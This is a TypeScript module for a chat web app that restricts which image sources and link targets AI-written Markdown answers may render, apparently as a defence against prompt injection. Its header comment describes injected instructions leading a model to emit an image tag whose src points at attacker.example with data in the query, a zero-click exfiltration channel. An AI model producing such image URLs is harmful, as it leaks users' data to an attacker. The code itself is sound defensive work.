/**
 * The rules for URLs in an answer's Markdown. An answer may carry text planted in a document or written by a
 * model following injected instructions, so nothing in it may make the reader's browser fetch another origin:
 * an `<img src="https://attacker.example/?data=…">` would send data to it without a click (an exfiltration
 * channel). See docs/web-chat.md, "Remote content".
 */

function base(): string {
  return typeof document !== 'undefined' ? document.baseURI : window.location.href;
}

function parse(url: string | undefined): URL | undefined {
  const s = url?.trim();
  if (!s) return undefined;
  try {
    return new URL(s, base());
  } catch {
    return undefined;
  }
}

const isHttp = (u: URL) => u.protocol === 'http:' || u.protocol === 'https:';

/**
 * The src an image may be rendered with: a data:image/… URL, or an http(s) URL of the app's own origin
 * (relative ones included). Anything else (another origin, protocol-relative `//host`, other schemes) is
 * undefined: never put into an <img>.
 */
export function inlineImageSrc(src: string | undefined): string | undefined {
  const s = src?.trim();
  if (!s) return undefined;
  if (/^data:image\/[a-z0-9.+-]+[;,]/i.test(s)) return s;
  const u = parse(s);
  return u && isHttp(u) && u.origin === window.location.origin ? u.href : undefined;
}

export interface LinkTarget {
  /** The absolute URL to put into href. */
  href: string;
  /** What the link leads to, shown next to its text: the host (http/https) or the address (mailto). */
  destination: string;
  /** The destination is the app's own origin. */
  sameOrigin: boolean;
}

/**
 * Where a link may lead: http(s) and mailto: URLs only. javascript:, vbscript:, data:, file: and every other
 * scheme give undefined (rendered as text, not a link).
 */
export function linkTarget(href: string | undefined): LinkTarget | undefined {
  const u = parse(href);
  if (!u) return undefined;
  if (isHttp(u) && u.host) {
    return { href: u.href, destination: u.host, sameOrigin: u.origin === window.location.origin };
  }
  if (u.protocol === 'mailto:' && u.pathname) {
    let address = u.pathname;
    try {
      address = decodeURIComponent(address);
    } catch {
      // A malformed escape: show the address as written.
    }
    return { href: u.href, destination: address, sameOrigin: false };
  }
  return undefined;
}

/**
 * Whether a link's visible text already names its destination: the text is a URL or bare host name
 * ("docs.example/a", "https://docs.example") with that very host, or the mailto address itself. Text naming
 * another host ("https://bank.example" linking to evil.example) or no host at all ("click here") does not.
 */
export function textShowsDestination(text: string, target: LinkTarget): boolean {
  const t = text.trim().toLowerCase();
  if (!t) return false;
  const dest = target.destination.toLowerCase();
  if (target.href.startsWith('mailto:')) return t === dest || t === `mailto:${dest}`;
  if (/\s/.test(t)) return false;
  try {
    const u = new URL(/^[a-z][a-z0-9+.-]*:/.test(t) ? t : `https://${t}`);
    return isHttp(u) && u.host === dest;
  } catch {
    return false;
  }
}
